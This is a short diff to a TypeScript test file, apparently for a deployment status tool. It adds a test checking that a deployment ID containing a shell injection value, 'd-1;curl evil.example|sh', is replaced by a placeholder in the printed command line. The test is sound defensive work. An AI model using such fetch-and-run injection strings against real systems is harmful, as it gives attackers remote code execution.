@@ -94,6 +94,11 @@ for (const [deployment, then] of waits) {
   })
 }
 
+test('an ID that a shell would run is not part of the command that reroutes traffic', () => {
+  const line = plain(readyLine(aDeployment({ id: 'd-1;curl evil.example|sh' })))
+  assert.match(line, / --deployment-id ID --deployment-wait-type READY_WAIT\. /)
+})
+
 const failed = aFailedInstance('i-1', aFailedEvent('Install', 1))
 const endings: readonly (readonly [ending: Ending, status: string, failed: boolean, words: string])[] = [
   [{ kind: 'finished' }, 'Succeeded', false, 'succeeded'],
